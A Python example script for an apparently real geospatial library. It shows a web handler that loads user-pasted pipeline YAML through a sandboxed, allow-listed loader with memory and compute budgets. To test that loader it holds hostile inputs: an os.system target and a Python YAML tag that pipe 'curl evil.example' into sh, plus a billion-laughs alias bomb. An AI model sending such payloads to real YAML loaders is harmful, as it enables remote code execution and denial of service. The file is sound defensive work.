"""Seed case 6 -- user-uploaded pipelines, sandboxed *and* priced, on the bundled Sentinel-2 scene.

This is the documented way to accept pipelines from users. A web UI lets an analyst paste a
pipeline YAML; the server loads it with the sandboxed loader and renders the result. Calling
``hydra.utils.instantiate`` on such text is remote code execution (``_target_: os.system``);
``gx.loads_yaml(text, allowed=...)`` instead:

- accepts only targets from an allow-list built from the registry (abstract bases never);
- parses with ``yaml.safe_load`` semantics under hard limits (size, depth, nodes, aliases,
  operator count, counted again after ``${}`` variables are filled in);
- pre-checks the built pipeline for the scene it will run on, without tracing (window sizes,
  chip sizes, operator applications), so a hostile config is refused in milliseconds;
- prices it -- memory (``jax.eval_shape``, the traced program's largest value and constants, the
  compiled program's memory analysis) *and* compute (the compiled program's FLOP count) -- under a
  hard wall-clock limit, refusing one over budget *before* running it.

Only georax errors leave the loader (anything unexpected is wrapped, naming the stage), so the
handler catches ``GeoraxError`` and nothing else, and never raises. Stochastic operators get a
fresh key per request.

Run: ``python examples/06_user_uploaded_pipelines.py``
"""

from __future__ import annotations

import dataclasses
import time
from typing import Any

import jax
import jax.numpy as jnp

import georax as gx
import georax.data as gd
from georax.array.qc import typed_qc_errors
from georax.core.sandbox import SANDBOX_LIMITS
from georax.errors import BudgetExceededError, GeoraxError, UntrustedTargetError

# The trustworthy public surface, built at start-up by introspecting the registry: every concrete
# georax operator except closure-bearing ones (Lambda, Tap, ModelOp are forbid_in_yaml).
ALLOWED = gx.registry.public_operators(include_modules=["georax"])
MEMORY_BUDGET = "256MiB"  # per request
FLOP_BUDGET = 1e8  # per request: ~200 operations per input value of a 7x256x256 scene
# The sandbox limits, with the pricing deadline set for this server: SANDBOX_LIMITS allows 2 s
# (pre-check + trace + compile); give it what your hardware needs for the largest pipeline you
# accept -- on a busy machine, compiling even a small one can take longer.
LIMITS = dataclasses.replace(SANDBOX_LIMITS, max_seconds=30.0)

SAFE = """
_target_: georax.Sequential
operators:
  - {_target_: georax.geo.cloud.MaskClouds, qa_band: -1, bits: [10, 11]}
  - {_target_: georax.geo.radiometry.DNToReflectance}
  - _target_: georax.patch.operators.Patchwise
    patcher:
      _target_: georax.patch.patcher.Patcher
      geometry: {_target_: georax.patch.geometry.Rectangular, size: [64, 64]}
      sampler: {_target_: georax.patch.samplers.RegularStride, stride: [48, 48]}
      window: {_target_: georax.patch.window_ops.Hann}
    operator: {_target_: georax.geo.radiometry.ScaleOffset, scale: 100.0, offset: 0.0}
    batch_size: ${batch}
"""

# Stochastic: the server supplies the key (one per request), the document cannot.
STOCHASTIC = """
_target_: georax.Sequential
operators:
  - {_target_: georax.geo.radiometry.DNToReflectance}
  - {_target_: georax.geo.augment.RandomFlip, p: 0.5, axes: [x, y]}
"""

# A config that would make tracing run for ever (a window of a billion pixels): refused by the
# pre-check in milliseconds, before anything is traced.
HUGE_WINDOW = """
_target_: georax.patch.operators.Patchwise
patcher:
  _target_: georax.patch.patcher.Patcher
  geometry: {_target_: georax.patch.geometry.Rectangular, size: [1000000001, 1000000001]}
  sampler: {_target_: georax.patch.samplers.RegularStride, stride: [1000000001, 1000000001]}
operator: {_target_: georax.Identity}
"""

# An abstract base class: never loadable, refused by name.
ABSTRACT = "{_target_: georax.array.qc.QCOperator}"

MALICIOUS = """
_target_: georax.Sequential
operators:
  - {_target_: georax.geo.cloud.MaskClouds, qa_band: -1, bits: [10, 11]}
  - {_target_: os.system, command: "curl evil.example | sh"}
"""

PYTHON_TAG = '!!python/object/apply:os.system ["curl evil.example | sh"]\n'

BILLION_LAUGHS = (
    "_target_: georax.GetItem\nitem:\n  - &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n"
    + "".join(
        f"  - &{n} [{', '.join([f'*{p}'] * 9)}]\n"
        for p, n in zip("abcdefgh", "bcdefghi", strict=True)
    )
)

# Only allowed operators, but a stride of 1 with 4096 chips per batch: a 1.5 GiB intermediate.
OVER_BUDGET = """
_target_: georax.Sequential
operators:
  - {_target_: georax.geo.cloud.MaskClouds, qa_band: -1, bits: [10, 11]}
  - _target_: georax.patch.operators.Patchwise
    patcher:
      _target_: georax.patch.patcher.Patcher
      geometry: {_target_: georax.patch.geometry.Rectangular, size: [128, 128]}
      sampler: {_target_: georax.patch.samplers.RegularStride, stride: [1, 1]}
    operator: {_target_: georax.geo.indices.NDVI, red_band: 2, nir_band: 3}
    batch_size: 4096
"""

TYPO = """
_target_: georax.Sequential
operators:
  - {_target_: georax.geo.indices.NDVI, red_band: 2, nri: 3}
"""


def handle(
    text: str, scene: gx.GeoTensor, variables: dict[str, Any], seed: int = 0
) -> dict[str, Any]:
    """The request handler: load sandboxed and priced, then run compiled; never raise."""
    start = time.perf_counter()
    try:
        pipe = gx.loads_yaml(
            text,
            allowed=ALLOWED,
            variables=variables,
            input_spec=scene,
            memory_budget=MEMORY_BUDGET,
            flop_budget=FLOP_BUDGET,
            limits=LIMITS,
        )
    except UntrustedTargetError as e:
        return _refused(start, f"operator not allowed: {e.target} ({type(e).__name__})")
    except BudgetExceededError as e:
        return _refused(start, f"over budget ({e.stage}): {e}")
    except GeoraxError as e:
        return _refused(start, f"{type(e).__name__}: {e}")
    try:
        # Every operator accepts `key=`; stochastic ones need it, the others ignore it. A QC
        # check failing inside the compiled program reaches us as JAX's runtime error;
        # typed_qc_errors gives back the QCError (a GeoraxError) that caused it.
        with typed_qc_errors():
            out = jax.block_until_ready(jax.jit(pipe)(scene, key=jax.random.key(seed)))
    except GeoraxError as e:  # a data check failing at run time (QC operators)
        return _refused(start, f"failed at run time: {type(e).__name__}: {e}")
    return {
        "status": "ran",
        "ms": 1e3 * (time.perf_counter() - start),
        "config_hash": gx.config_hash(pipe)[:16],
        "result": _describe(out),
    }


def _describe(out: Any) -> str:
    if isinstance(out, gx.GeoTensor):
        mean = float(jnp.nanmean(out.values))
        return f"GeoTensor {out.shape}, mean {mean:.3f}, crs {out.crs}"
    leaves = jax.tree_util.tree_leaves(out)
    return "outputs " + ", ".join(f"{leaf.dtype}{list(leaf.shape)}" for leaf in leaves)


def _refused(start: float, reason: str) -> dict[str, Any]:
    return {"status": "refused", "ms": 1e3 * (time.perf_counter() - start), "reason": reason}


def main() -> None:
    scene = gd.sentinel2_l1c(256, seed=0)
    print(f"scene {scene.shape} {scene.dtype} {scene.crs} bands={scene.band_names}")
    print(
        f"allow-list: {len(ALLOWED)} targets; budgets {MEMORY_BUDGET} and "
        f"{FLOP_BUDGET:.0e} FLOPs per request\n"
    )
    submissions = [
        ("safe submission", SAFE, {"batch": 16}, "ran"),
        ("stochastic submission", STOCHASTIC, {}, "ran"),
        ("malicious _target_", MALICIOUS, {}, "refused"),
        ("python tag", PYTHON_TAG, {}, "refused"),
        ("billion laughs", BILLION_LAUGHS, {}, "refused"),
        ("over budget", OVER_BUDGET, {}, "refused"),
        ("huge window", HUGE_WINDOW, {}, "refused"),
        ("abstract base", ABSTRACT, {}, "refused"),
        ("typo in a field", TYPO, {}, "refused"),
    ]
    failures = []
    for label, text, variables, expected in submissions:
        response = handle(text, scene, variables)
        print(f"{label}: {response['status']} in {response['ms']:.0f} ms")
        for key, value in response.items():
            if key not in ("status", "ms"):
                print(f"    {key}: {value}")
        if response["status"] != expected:
            failures.append(label)
    if failures:
        raise SystemExit(f"unexpected outcome for: {failures}")
    print("\nthe safe pipeline, as the server stores it:")
    print(gx.dumps_yaml(gx.loads_yaml(SAFE, allowed=ALLOWED, variables={"batch": 16})))


if __name__ == "__main__":
    main()
